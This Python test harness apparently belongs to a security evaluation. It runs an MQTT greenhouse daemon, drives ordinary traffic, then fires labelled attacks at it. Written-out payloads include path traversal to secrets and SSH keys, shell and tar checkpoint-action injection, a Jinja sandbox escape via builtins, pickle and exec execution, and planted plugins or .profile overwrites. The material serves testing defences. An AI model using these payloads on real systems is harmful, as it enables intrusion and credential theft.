# SPDX-License-Identifier: Apache-2.0
"""A daemon with plugins, which hears greenhouses by MQTT."""
import io
import json
import os
import pickle
import signal
import subprocess
import threading

import attackers
import stage

VAPOR = {"__init__.py": """import math


def deficit(celsius, humidity):
    full = 0.61078 * math.exp(17.27 * celsius / (celsius + 237.3))
    return full * (1 - humidity / 100)
"""}
VAPOR_NEW = {
    "__init__.py": "from vaporpressure.magnus import deficit\n",
    "magnus.py": """import json
import math
import pkgutil

NUMBERS = json.loads(pkgutil.get_data("vaporpressure", "magnus.json"))


def deficit(celsius, humidity):
    full = NUMBERS["c"] * math.exp(
        NUMBERS["a"] * celsius / (celsius + NUMBERS["b"]))
    return full * (1 - humidity / 100)
""",
    "magnus.json": '{"a": 17.62, "b": 243.12, "c": 0.6112}\n'}
SOIL = {"__init__.py": """from greenhouse.plugins import Plugin


class Soil(Plugin):
    topics = ("soil",)
    asks = ("soil",)
    dry = {}

    def handle(self, house, rest, payload):
        self.dry[house] = int(payload) < 30
        path = self.config.var("soil", house, rest[1] + ".txt")
        path.write_text(payload.decode())

    def answer(self, ask, request):
        return str(self.dry.get(request["house"])).encode()
"""}
SOIL_POINT = "[greenhouse.plugins]\nsoil = greensoil:Soil\n"
# Of each day: grower, house, date, beds, a camera's name, station.
DAYS = {
    1: [("anna", "north", "2026-05-04", ["tomatoes", "basil"],
         "door.jpg", "oslo"),
        ("ben", "south-2", "2026-05-05", ["peppers"],
         "shelf1/left.png", "bergen"),
        ("carla", "tunnel", "2026-06-01", ["lettuce", "chard", "leeks"],
         "cam-7.jpg", "moss")],
    2: [("anna", "north", "2026-06-17", ["cucumbers"],
         "shelf2/top.jpg", "oslo"),
        ("dora", "glass house", "2026-06-18", ["figs", "bay-tree"],
         "door.png", "lillehammer"),
        ("emil", "palm.room", "2026-07-02", ["ferns"],
         "east.jpg", "hamar")],
    3: [("ben", "south-2", "2026-08-09", ["chili", "okra"],
         "roof.png", "bergen"),
        ("fritz", "nursery", "2026-08-10", ["seedlings"],
         "shelf3/right.jpg", "voss"),
        ("gerda", "old orangery", "2026-09-30", ["lemons", "limes"],
         "gate.jpg", "oslo")]}
OTHERS = [
    ("Hans Peter", "Haus 4 (Süd)", "2027-11-21", ["Möhren", "red beet"],
     "Regal 3/row.b/Kamera 2.gif", "oslo-blindern"),
    ("o.brien", "annex.v2", "2031-12-31", ["a", "b", "c", "d"],
     "2031.12.31-noon.bmp", "roros"),
    ("zoe-lu", "east_wing", "2027-02-28", ["orchids"],
     "hall/shelf/upper/left-1.webp", "trondheim"),
    ("anna", "north", "2026-05-06", ["tomatoes"], "door.jpg", "oslo")]


def picture(kind, side=90):
    """Of the format that a file's ending names."""
    from PIL import Image
    made = io.BytesIO()
    Image.new("RGB", (side, side), (20, 120, 40)).save(
        made, {"jpg": "JPEG"}.get(kind, kind.upper()))
    return made.getvalue()


class Grower:
    """Everybody's client at the broker."""

    def __init__(self, port):
        import paho.mqtt.client as mqtt
        self.answers = {}
        self.is_there = threading.Event()
        self.count = 0
        self.client = mqtt.Client()
        self.client.on_connect = lambda *_: self.client.subscribe(
            "greenhouse/answer/+", 1)
        self.client.on_subscribe = lambda *_: self.is_there.set()
        self.client.on_message = self.on_message
        self.client.connect("127.0.0.1", port)
        self.client.loop_start()
        self.is_there.wait(10)

    def on_message(self, _client, _userdata, message):
        self.answers[message.topic.rpartition("/")[2]] = message.payload

    def send(self, topic, payload):
        if isinstance(payload, (dict, list)):
            payload = json.dumps(payload)
        self.client.publish("greenhouse/" + topic, payload, 1)

    def ask(self, want, seconds=15, **request):
        """What the daemon answers, after all that was sent before."""
        self.count += 1
        number = f"q{self.count}"
        self.send("ask/" + number, {"want": want, **request})
        stage.wait_for(lambda: number in self.answers, seconds)
        return self.answers.get(number, b"no answer")

    def close(self):
        self.client.disconnect()
        self.client.loop_stop()


class MqttGreenhouse(stage.Service):
    """Greenhouses' readings, pictures and alerts (paho-mqtt, plugins)."""
    packages = ["python3-paho-mqtt", "mosquitto", "python3-yaml",
                "python3-pil", "python3-jinja2"]
    broker = None
    grower = None

    def arrange(self):
        stage.write(self.srv / "etc/greenhouse.yaml", "\n".join([
            "broker:", "  host: 127.0.0.1", f"  port: {self.port('mqtt')}",
            f"hook: http://127.0.0.1:{self.port('hook')}",
            f"weather: http://127.0.0.1:{self.port('weather')}/stations/",
            'report_at: "03:30"', ""]))
        stage.write(self.srv / "etc/secrets.yaml",
                    f"hook: not-{stage.SECRET}\n", 0o600)
        self.install("vaporpressure", "1.2.0", VAPOR)
        self.install("greensoil", "0.3.1", SOIL, SOIL_POINT)

    def arrange_benign(self):
        self.install("vaporpressure", "1.3.0", VAPOR_NEW)

    # ------------------------------------------------------------ what it is
    def command(self):
        return [self.python, "greenhoused.py", "etc/greenhouse.yaml"]

    def start_broker(self):
        self.broker = subprocess.Popen(
            ["/usr/sbin/mosquitto", "-p", str(self.port("mqtt"))],
            cwd=self.tmp, stdin=subprocess.DEVNULL,
            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
            start_new_session=True)
        if not stage.wait_for(lambda: self.listens("mqtt"), 10):
            raise stage.Broken("no broker")

    def end_broker(self):
        if self.broker:
            broker, self.broker = self.broker, None
            stage.end_group(broker)

    def start(self):
        self.site("hook").page("*", "ok")
        self.site("weather").page("*", '{"celsius": 21}')
        if not self.broker:
            self.start_broker()
            self.grower = Grower(self.port("mqtt"))
        super().start()

    def stop(self):
        super().stop()
        if self.grower:
            self.grower.close()
            self.grower = None
        self.end_broker()

    def is_ready(self):
        return b"readings" in self.grower.ask("plugins", 0.5)

    def ask(self, want, **request):
        return self.grower.ask(want, **request)

    def expect_told(self, what, text, want, **request):
        """That the daemon's answer holds text."""
        answer = self.ask(want, **request)
        self.expect(what, text in answer, answer[-80:])

    def ctl(self, *words, found=""):
        """In maintenance: one recording at a time writes a trace."""
        self.expect_run(words, self.run(self.python, "ghctl.py", *words),
                        found=found)

    def ctl_beside(self, *words, found=""):
        """While the daemon runs; the command itself is not recorded."""
        self.expect_run(words, self.run(
            self.python, "ghctl.py", *words, wrapped=False), found=found)

    # ---------------------------------------------------------- ordinary use
    def measure(self, house, sensor, at, value):
        self.grower.send(f"{house}/reading/{sensor}",
                         {"at": at, "value": value})

    def readings(self, house, date):
        hours = (6, 12.5, 80), (12, 24, 61), (18, 19.25, 70)
        for hour, warm, moist in hours:
            at = f"{date}T{hour:02}:00:00"
            self.measure(house, "temperature", at, warm)
            self.measure(house, "humidity", at, moist)
        self.grower.send(f"{house}/batch", pickle.dumps(
            [("lux", f"{date}T{hour:02}:30:00", 900.0 + hour)
             for hour in range(9, 13)]))
        self.expect_told(f"CSV of {house}", b"lux", "csv", house=house,
                         day=date)
        self.expect_told(f"climate of {house}", b"kPa", "climate",
                         house=house, day=date)

    def alerts(self, name, house, date):
        """A rule of the grower's, and three alerts."""
        self.grower.send(f"{house}/rules", json.dumps([{
            "sensor": "temperature", "when": "value > 35 and hour > 8",
            "say": f"Too warm in {{house}} ({name}): {{value}}",
            "mail": [name], "hook": f"/alerts/{name.replace(' ', '%20')}"}]))
        self.measure(house, "temperature", f"{date}T13:00:00", 38.5)
        self.measure(house, "temperature", f"{date}T04:00:00", 1.5)
        self.measure(house, "door", f"{date}T23:10:00", 1)
        self.expect_told(f"rules of {house}", b"Too warm", "rules")
        self.expect(f"mail to {name}", any(
            (self.srv / "var/mail" / name / "new").glob("*")))
        self.expect(f"hook for {name}", self.site("hook").heard(name))

    def pictures(self, house, camera):
        content = picture(camera.rpartition(".")[2])
        self.grower.send(f"{house}/camera/{camera}", content)
        self.expect_told(f"picture {camera}", content, "picture",
                         house=house, name=camera)
        self.expect_told(f"thumbnail of {camera}", b"JFIF", "thumbnail",
                         house=house, name=camera.rpartition(".")[0] + ".jpg")
        self.upload(house, "phone-" + camera.rpartition("/")[2], content)

    def upload(self, house, name, content):
        self.grower.send(f"{house}/upload", json.dumps(
            {"name": name}).encode() + b"\n" + content)

    def beds(self, name, house, date, beds):
        for number, bed in enumerate(beds):
            self.grower.send(f"{house}/water",
                             {"bed": bed, "seconds": 20 + 15 * number})
            self.grower.send(f"{house}/soil/{bed}", str(25 + 10 * number))
            self.grower.send(f"{house}/note", {
                "who": name, "at": f"{date}T17:0{number}:00",
                "text": f"{bed} watered, {{{{ readings|length }}}} sensors"})
        self.expect_told(f"soil of {house}", b"e", "soil", house=house)
        log = self.srv / "var/valves" / (house + ".log")
        self.expect(f"valves of {house}",
                    log.exists() and beds[-1] in log.read_text())

    def office(self, house, date, station, suffix):
        self.expect_told(f"report of {date}", house.encode(), "report",
                         day=date, **{"as": suffix})
        self.expect_told(f"forecast for {station}", b"celsius", "forecast",
                         station=station, keep=date)
        self.expect_told(f"archive of {house}", b"\x1f\x8b", "archive",
                         house=house, name=date[:7], files=[date + ".csv"])

    def day_of(self, name, house, date, beds, camera, station, suffix):
        self.readings(house, date)
        self.alerts(name, house, date)
        self.pictures(house, camera)
        self.beds(name, house, date, beds)
        self.office(house, date, station, suffix)

    def new_rules(self, name, sensor, most):
        """The operator writes rules and has them read."""
        stage.write(
            self.srv / "etc/rules" / name,
            f'- sensor: {sensor}\n  when: value > {most}\n'
            f'  say: "{sensor} in {{house}}: {{value}}"\n  mail: [anna]\n')
        self.ctl_beside("reload", found="told")
        self.expect(f"rules {name} read", stage.wait_for(
            lambda: str(most).encode() in self.ask("rules"), 10))

    def train(self, day):
        suffixes = ["html", "txt", "html"]
        for number, use in enumerate(DAYS[day]):
            self.day_of(*use, suffixes[number])
        _, house, date, *_ = DAYS[day][0]
        _, other, later, *_ = DAYS[day][1]
        self.expect_told("houses", b"north" if day < 3 else b"nursery",
                         "houses")
        self.new_rules(f"lux-{day}.yaml", "lux", 5000 + day)
        self.new_rules(["damp.yaml", "storm.yaml", "winter.yaml"][day - 1],
                       "humidity", 95 + day)
        self.ctl_beside("report", date, found="Report of")
        self.ctl_beside("report", later, "--as", "html", found="<title>")
        self.expect_told("no such day", b"error", "csv", house=house,
                         day=f"2025-01-0{day}")
        self.grower.send(f"{house}/reading/temperature", b"not JSON")
        self.ask("houses")
        self.halt()
        for path in sorted((self.srv / "etc/rules").glob("*.yaml")):
            self.ctl("check-rules", path.relative_to(self.srv), found="fine")
        self.ctl("readings", house, date, found="readings")
        self.ctl("readings", other, later, "--sensor", "lux", found="4 read")
        self.ctl("readings", house, date, "--limit", day + 1,
                 found=f"{day + 1} readings")
        self.ctl("readings", other, later, "--output",
                 f"{other}-{later}.csv", found="readings")
        self.start()
        self.readings(other, later)

    def benign(self):
        suffixes = ["html", "txt", "md", "html"]
        for number, use in enumerate(OTHERS):
            self.day_of(*use, suffixes[number])
        self.new_rules("summer 2027.yaml", "temperature", 41)
        self.new_rules("co2-limits.v2.yaml", "co2", 1500)
        self.grower.send("annex.v2/camera/broken.jpg", b"not a picture")
        self.grower.send("annex.v2/batch", b"not a pickle")
        self.grower.send("annex.v2/rules", b"- sensor: [unclosed")
        self.upload("annex.v2", "IMG 2031 (1).jpeg", picture("jpeg", 1500))
        self.expect_told("large picture", b"JFIF", "thumbnail",
                         house="annex.v2", name="IMG 2031 (1).jpg")
        self.expect_told("no such picture", b"error", "picture",
                         house="annex.v2", name="none.png")
        self.site("weather").page("/stations/nowhere", "none", 404)
        self.expect_told("no such station", b"error: HTTPError", "forecast",
                         station="nowhere")
        self.expect_told("nothing of that kind", b"error: LookupError",
                         "harvest")
        self.site("hook").page("*", "busy", 503)
        self.measure("north", "temperature", "2026-05-06T14:00:00", 39)
        self.expect_told("the hook is busy", b"north", "houses")
        self.site("hook").page("*", "ok")
        self.ctl_beside("report", "2031-12-31", "--as", "md",
                        found="# Report of")
        self.halt()
        for path in sorted((self.srv / "etc/rules").glob("*.yaml")):
            self.ctl("check-rules", path.relative_to(self.srv), found="fine")
        self.ctl("readings", "Haus 4 (Süd)", "2027-11-21", "--reverse",
                 found="readings")
        self.ctl("readings", "east_wing", "2027-02-28", "--sensor", "lux",
                 "--limit", 3, found="3 readings")
        self.ctl("readings", "annex.v2", "2031-12-31", "--output",
                 "annex v2 (2031).csv", found="readings")
        self.ctl("readings", "nowhere", "2029-03-04", found="0 readings")
        self.expect("no rules", self.run(
            self.python, "ghctl.py", "check-rules", "none.yaml")[0] == 1)
        self.start()
        self.readings("east_wing", "2027-03-01")
        for name, house, date, *_ in OTHERS:
            self.alerts(name, house, date)

    def health(self):
        self.readings("north", "2026-05-04")
        self.alerts("anna", "north", "2026-05-04")
        self.pictures("north", "door.jpg")
        self.expect_told("report", b"north", "report", day="2026-05-04",
                         **{"as": "html"})

    # --------------------------------------------------------------- attacks
    def daemon_reloads(self):
        pid = int((self.srv / "var/run/greenhoused.pid").read_text())
        os.kill(pid, signal.SIGHUP)
        self.ask("houses")

    def reports(self, code):
        """code: an expression in a note's template."""
        self.grower.send("north/note", {
            "who": "anna", "at": "2026-05-08T17:00:00",
            "text": "{{ cycler.__init__.__globals__.__builtins__."
                    + code + " }}"})
        return self.ask("report", day="2026-05-08", **{"as": "txt"})

    def judges(self, code):
        """code: an expression in a rule."""
        self.grower.send("north/rules", [
            {"sensor": "bell", "when": code, "say": "{house}"}])
        self.measure("north", "bell", "2026-05-04T10:00:00", 1)
        return self.ask("houses")

    @stage.attack("traversal")
    def csv_is_the_payroll(self):
        return self.is_told(self.ask(
            "csv", house="north", day="../../../../payroll/2026"))

    @stage.attack("source disclosure")
    def picture_is_the_source(self):
        return b"class Daemon" in self.ask(
            "picture", house="north",
            name=f"{self.srv}/greenhouse/daemon.py")

    @stage.attack("secret disclosure")
    def picture_is_the_hooks_token(self):
        return self.is_told(self.ask(
            "picture", house="north", name="../../../etc/secrets.yaml"))

    @stage.attack("SSRF")
    def station_is_an_internal_service(self):
        return self.fetches_inside(
            lambda url: self.ask("forecast", station=url))

    @stage.attack("command injection")
    def bed_runs_a_command(self):
        def use(line):
            self.grower.send("north/water", {
                "bed": "basil", "seconds": f"5; {line}"})
            self.ask("houses")
        return self.runs_line(use)

    @stage.attack("argument injection")
    def archive_runs_a_checkpoint(self):
        self.readings("north", "2026-05-04")
        return self.runs_line(lambda line: self.ask(
            "archive", house="north", name="2026-05", files=[
                "--checkpoint=1", f"--checkpoint-action=exec={line}",
                "2026-05-04.csv"]))

    @stage.attack("template injection")
    def note_reads_a_password(self):
        return self.template_reads(self.reports)

    @stage.attack("exfiltration")
    def note_sends_credentials(self):
        return self.template_steals(self.reports)

    @stage.attack("fork+exec")
    def rule_forks(self):
        return self.forks(lambda code: self.judges(f"exec({code!r})"))

    @stage.attack("ctypes")
    def rule_calls_libc(self):
        return self.runs_libc(self.judges)

    @stage.attack("unsafe pickle")
    def batch_runs_a_command(self):
        def use(line):
            self.grower.send("north/batch", pickle.dumps(
                attackers.Bomb(os.system, line)))
            self.ask("houses")
        return self.runs_line(use)

    @stage.attack("reverse shell")
    def rules_call_home(self):
        def use(code):
            self.grower.send("north/rules", attackers.in_yaml(code))
            self.ask("houses")
        return self.calls_home(use)

    @stage.attack("symlink swap", fresh=True)
    def csv_became_a_link(self):
        self.readings("north", "2026-05-08")
        path = self.srv / "var/csv/north/2026-05-08.csv"
        path.unlink()
        path.symlink_to(self.home / ".ssh/id_rsa")
        return self.is_told(self.ask("csv", house="north", day="2026-05-08"))

    @stage.attack("malicious plugin", fresh=True)
    def upload_becomes_a_plugin(self):
        def use(line):
            self.upload("north", "../../../plugins/zz.py",
                        f"import os\nos.system('{line}')\n".encode())
            self.ask("houses")
            self.daemon_reloads()
        return self.runs_line(use, waits=True)

    @stage.attack("write to start-up file", fresh=True)
    def upload_replaces_the_profile(self):
        self.upload("north", f"{self.home}/.profile", b"planted")
        self.ask("houses")
        return "planted" in (self.home / ".profile").read_text()

    @stage.attack("malicious dependency", fresh=True)
    def soil_plugin_sends_credentials(self):
        return self.dependency_steals("greensoil", "0.3.2", SOIL,
                                      self.restart, entry_points=SOIL_POINT)
